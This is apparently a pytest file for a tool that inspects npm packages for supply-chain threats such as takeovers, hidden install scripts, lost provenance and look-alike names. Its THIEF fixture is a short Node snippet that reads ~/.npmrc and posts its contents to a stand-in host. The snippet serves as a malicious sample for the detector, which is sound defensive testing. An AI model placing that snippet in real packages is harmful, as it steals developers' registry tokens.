"""What surrounds a package of npm: its history, the release before, the page against the file."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from antivenom.ecosystems.npm.packument import Packument
from antivenom.ecosystems.npm.previous import earlier
from antivenom.ecosystems.npm.versions import is_prerelease, order
from antivenom.intake import gather
from antivenom.intake.locator import AUTO, Failure, Locator, Options, Surroundings
from antivenom.model.context import RegistryInfo
from antivenom.model.coordinate import Ecosystem
from antivenom.session import Options as Session
from antivenom.session import Reviewed, run
from tests.builders.index import FakeIndex
from tests.builders.registry import FakeRegistry

DAY = "2026-03-{:02}T10:00:00.000Z"
CODE = "exports.add = function (a, b) { return a + b; };\n"
THIEF = (
    "const https = require('https');\n"
    "const token = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
    "https.request('https://drop.invalid/t', { method: 'POST' }).end(token);\n"
)


@pytest.fixture
def registry(fake: FakeIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeRegistry:
    made = FakeRegistry(fake)
    monkeypatch.setenv("npm_config_registry", made.url)
    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
    return made


def around(request: str, baseline: str = AUTO) -> Surroundings:
    (found,) = gather([request], Options(baseline=baseline))
    assert isinstance(found, Locator), found
    assert found.around is not None
    return found.around


def reviewed(request: str, baseline: str = "") -> Reviewed:
    (one,) = run([request], Session(baseline=baseline))
    assert isinstance(one, Reviewed), one
    return one


def rules(request: str) -> set[str]:
    return {finding.rule for finding in reviewed(request).review.findings}


def test_a_release_is_compared_with_the_one_before(registry: FakeRegistry) -> None:
    for number, version in enumerate(("1.0.0", "1.1.0", "2.0.0-beta.1", "1.1.1", "2.0.0"), 1):
        registry.publish("demo", version, {"index.js": CODE}, time=DAY.format(number))
    found = around("npm:demo@1.1.1")
    assert found.baseline is not None and found.baseline.coordinate is not None
    assert found.baseline.coordinate.version == "1.1.0"
    assert found.baseline.ecosystem is Ecosystem.NPM
    assert around("npm:demo@1.0.0").baseline is None
    assert any("no earlier release" in note for note in around("npm:demo@1.0.0").notes)
    named = around("npm:demo@2.0.0", "1.0.0").baseline
    assert named is not None and named.filename == "demo-1.0.0.tgz"


def test_a_takeover_is_found_by_what_is_new(registry: FakeRegistry) -> None:
    registry.publish("@a/demo", "1.0.0", {"index.js": CODE}, time=DAY.format(1))
    registry.publish("@a/demo", "1.0.1", {"index.js": CODE + THIEF}, time=DAY.format(9))
    review = reviewed("npm:@a/demo@1.0.1", AUTO).review
    assert review.verdict == "malicious"
    assert review.context.baseline == "pkg:npm/%40a/demo@1.0.0"
    assert {finding.change for finding in review.findings} == {"new"}


def test_a_packument_gives_the_history(registry: FakeRegistry) -> None:
    known = {"dist": {"attestations": {"url": "x"}}, "maintainers": [{"name": "jo"}]}
    registry.publish("demo", "1.0.0", {"index.js": CODE}, time=DAY.format(1), shown=known)
    minutes = "2026-03-02T10:{:02}:00.000Z"
    for number in range(4):
        last = {"maintainers": [{"name": "jo"}, {"name": "new"}], "_npmUser": {"name": "new"}}
        shown = last if number == 3 else known
        time = minutes.format(number)
        registry.publish("demo", f"1.0.{number + 1}", {"index.js": CODE}, time=time, shown=shown)
    found = around("npm:demo@1.0.4")
    assert found.registry == RegistryInfo(
        first_release="2026-03-01T10:00:00Z",
        releases=5,
        previous_release="2026-03-02T10:02:00Z",
        recent_releases=3,
        owners=("jo", "new"),
        new_owners=("new",),
        attested=False,
        attested_before=True,
    )
    assert found.upload is not None and found.upload.publisher == "new"
    assert {"supply/release-burst", "supply/provenance-lost"} <= rules("npm:demo@1.0.4")


def test_what_the_registry_does_not_show_is_told(registry: FakeRegistry) -> None:
    manifest = {"scripts": {"postinstall": "node index.js"}, "dependencies": {"helper": "^1.0.0"}}
    shown: dict[str, Any] = {"scripts": {}, "dependencies": {}}
    registry.publish("demo", "1.0.0", {"index.js": CODE}, manifest=manifest, shown=shown)
    assert {"supply/hidden-dependency", "supply/hidden-script"} <= rules("npm:demo")
    assert reviewed("npm:demo").review.verdict == "suspicious"


@pytest.mark.parametrize(
    ("manifest", "shown"),
    [
        ({"scripts": {"install": "node  i.js"}}, {"scripts": {"install": "node i.js"}}),
        ({"scripts": {"test": "mocha", "prepack": "x"}}, {"scripts": None}),
        ({}, {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True}),
        ({"version": "v1.0.0"}, {"version": "1.0.0"}),
        ({"optionalDependencies": {"a": "1"}}, {"dependencies": {"a": "1"}}),
        ({}, {"dependencies": {"bundled": "1"}}),
    ],
)  # fmt: skip
def test_what_honest_clients_change_is_not_hidden(
    registry: FakeRegistry, manifest: dict[str, Any], shown: dict[str, Any]
) -> None:
    registry.publish("demo", "1.0.0", {"index.js": CODE}, manifest=manifest, shown=shown)
    assert reviewed("npm:demo").review.verdict == "clean"


def test_another_package_than_the_registry_says(registry: FakeRegistry) -> None:
    shown = {"name": "demo", "version": "1.0.0"}
    manifest = {"name": "other", "version": "1.0.0"}
    registry.publish("demo", "1.0.0", {"index.js": CODE}, manifest=manifest, shown=shown)
    assert "impersonation/metadata-mismatch" in rules("npm:demo")


def test_the_words_of_the_imitated_package_are_compared(registry: FakeRegistry) -> None:
    readme = " ".join(f"word{n} says thing{n % 7} about part{n % 11}" for n in range(40))
    registry.publish("lodash", "4.0.0", {"index.js": CODE}, readme=readme)
    registry.publish("lodahs", "4.0.0", {"index.js": CODE, "README.md": readme})
    found = around("npm:lodahs")
    assert [one.metadata.name for one in found.imitated] == ["lodash"]
    assert "impersonation/look-alike-copy" in rules("npm:lodahs")


def test_provenance_lowers_nothing(registry: FakeRegistry) -> None:
    signed = {"dist": {"attestations": {"url": "x", "provenance": {"predicateType": "slsa"}}}}
    registry.publish("plain", "1.0.0", {"index.js": THIEF}, time=DAY.format(1))
    registry.publish("signed", "1.0.0", {"index.js": THIEF}, time=DAY.format(1), shown=signed)
    plain, with_provenance = reviewed("npm:plain").review, reviewed("npm:signed").review
    assert with_provenance.verdict == plain.verdict == "malicious"
    assert with_provenance.score >= plain.score


def test_a_registry_that_says_nonsense(fake: FakeIndex, registry: FakeRegistry) -> None:
    registry.publish("demo", "1.0.0", {"index.js": CODE}, shown={
        "maintainers": [1, None, {"name": 2}], "_npmUser": 3, "scripts": [], "dependencies": "x",
        "dist": {"attestations": None},
    }, time="yesterday", readme=["x"])  # fmt: skip
    assert reviewed("npm:demo").review.verdict == "clean"
    for body in (b"", b"[]", b'{"versions": {"1.0.0": 7}}', b"[" * 100_000):
        fake.raw["/npm/broken"] = ("application/json", body)
        (found,) = gather(["npm:broken"])
        assert isinstance(found, Failure)


@pytest.mark.parametrize(
    ("versions", "version", "found"),
    [
        (["1.0.0", "1.2.0", "1.10.0"], "1.10.1", "1.10.0"),
        (["1.0.0", "2.0.0-rc.1"], "2.0.0", "1.0.0"),
        (["2.0.0-rc.1", "2.0.0-rc.10", "2.0.0-rc.9"], "2.0.0-rc.11", "2.0.0-rc.10"),
        (["2.0.0"], "1.0.0", ""),
        (["odd", "1.0.0"], "1.0.1", "1.0.0"),
        (["1.0.0"], "odd", ""),
    ],
)
def test_the_release_before_without_times(versions: list[str], version: str, found: str) -> None:
    page = Packument(fields={}, versions={one: {} for one in [*versions, version]})
    assert earlier(page, version) == found


def test_versions_compare_as_semantic_versioning_says() -> None:
    rising = ["1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta", "1.0.0-beta.2",
              "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.0.1", "1.1.0", "2.0.0"]  # fmt: skip
    ordered = [order(one) for one in rising]
    assert None not in ordered
    assert ordered == sorted(ordered, key=lambda one: one or ((0, 0, 0), ()))
    assert order("1.0.0+build") == order("v1.0.0")
    assert order("latest") is None and order("") is None
    assert is_prerelease("1.0.0-rc.1") and not is_prerelease("1.0.0")
